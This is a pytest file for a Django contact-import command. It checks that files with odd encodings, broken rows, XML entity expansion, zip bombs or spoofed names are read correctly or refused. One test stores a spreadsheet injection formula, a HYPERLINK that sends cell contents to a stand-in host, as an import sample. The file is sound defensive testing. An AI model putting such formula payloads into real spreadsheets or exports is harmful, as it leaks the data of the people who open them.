"""Every awkward file, imported as contacts by the command, is refused with a reason or read right."""

import json
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from comptoir.clients.models import Contact
from comptoir.imports.errors import FileRefused
from comptoir.imports.models import ImportProblem, ImportRun
from comptoir.items.models import ContactPoint

pytestmark = pytest.mark.django_db


def run(data: Path, name: str, **options: Any) -> dict[str, Any]:
    out = StringIO()
    call_command("import", "contacts", str(data / "dirty" / name), json=True, stdout=out, stderr=StringIO(), **options)
    summary: dict[str, Any] = json.loads(out.getvalue())
    return summary


def points(contact: Contact, kind: str) -> list[str]:
    rows = ContactPoint.objects.filter(item_type=3, item_id=contact.pk, kind=kind).order_by("id")
    return list(rows.values_list("value", flat=True))


@pytest.mark.parametrize(
    ("name", "rows"),
    [
        ("cp1251_semicolon.csv", 3),
        ("koi8r_semicolon.csv", 3),
        ("cp1252_semicolon.csv", 3),
        ("utf16le_bom_tab.csv", 3),
        ("utf16be_bom_comma.csv", 3),
        ("utf8_bom_comma.csv", 3),
        ("sep_line_excel.csv", 3),
        ("mixed_newlines.csv", 3),
        ("embedded_newlines_quotes.csv", 3),
        ("header_only.csv", 0),
        ("formula_cells.csv", 14),
        ("normalisation.csv", 3),
        ("rtl_and_controls.csv", 4),
        ("duplicate_headings.csv", 1),
    ],
)
def test_takes_every_row(data: Path, admin: object, name: str, rows: int) -> None:
    summary = run(data, name)
    assert (summary["added"], summary["refused"]) == (rows, 0)
    assert Contact.objects.count() == rows


def test_reads_cyrillic(data: Path, admin: object) -> None:
    run(data, "cp1251_semicolon.csv", create="companies")
    anna = Contact.objects.get(last_name="Щербакова")
    assert (anna.name, str(anna.company)) == ("Анна", "ООО «Ромашка»")
    assert points(anna, "PHONE") == ["+7 (495) 123-45-67"]


def test_keeps_line_breaks_and_quotes(data: Path, admin: object) -> None:
    run(data, "embedded_newlines_quotes.csv")
    ann = Contact.objects.get(name='Ann "The Boss" Lee')
    assert ann.comments == "line 1\nline 2\nline 3"


def test_gives_both_e_mails_and_both_phones(data: Path, admin: object) -> None:
    run(data, "duplicate_headings.csv")
    contact = Contact.objects.get()
    assert points(contact, "EMAIL") == ["a@x.example", "a2@x.example"]
    assert points(contact, "PHONE") == ["1", "2"]


def test_strips_what_hides_or_turns_text_and_keeps_emoji(data: Path, admin: object) -> None:
    run(data, "rtl_and_controls.csv")
    names = set(Contact.objects.values_list("name", flat=True))
    assert "gpj.exe" in names
    assert "John" in names
    assert any("🐉" in name for name in names)


def test_neutralises_formulas_only_on_export(data: Path, admin: object) -> None:
    run(data, "formula_cells.csv")
    assert Contact.objects.filter(name="=1+1").exists()
    assert Contact.objects.filter(name='=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")').exists()


@pytest.mark.parametrize(
    ("name", "lines"),
    [("ragged_rows.csv", [3, 4, 5, 6]), ("nul_bytes.csv", [2]), ("invalid_utf8.csv", [3]), ("huge_field.csv", [2])],
)
def test_refuses_bad_rows_by_line_and_takes_the_others(data: Path, admin: object, name: str, lines: list[int]) -> None:
    summary = run(data, name)
    assert [problem["line"] for problem in summary["problems"] if problem["refused"]] == lines
    assert summary["added"] == Contact.objects.count() == 1


@pytest.mark.parametrize(
    "name",
    [
        "binary_png_named.csv",
        "empty_file.csv",
        "entity_expansion.xml",
        "many_columns.csv",
        "unbalanced_quote.csv",
        "zip_bomb_like.xlsx",
    ],
)
def test_refuses_the_whole_file_and_keeps_nothing_of_it(data: Path, admin: object, name: str) -> None:
    with pytest.raises(FileRefused) as refusal:
        run(data, name)
    assert str(refusal.value.message)
    assert not Contact.objects.exists()
    assert not ImportRun.objects.exists()


def test_a_second_import_of_any_file_adds_nothing(data: Path, admin: object) -> None:
    for _time in range(2):
        for name in ("utf8_bom_comma.csv", "normalisation.csv", "ragged_rows.csv"):
            summary = run(data, name)
    assert summary["added"] == 0
    assert Contact.objects.count() == 7
    assert ImportProblem.objects.filter(refused=True).count() == 8
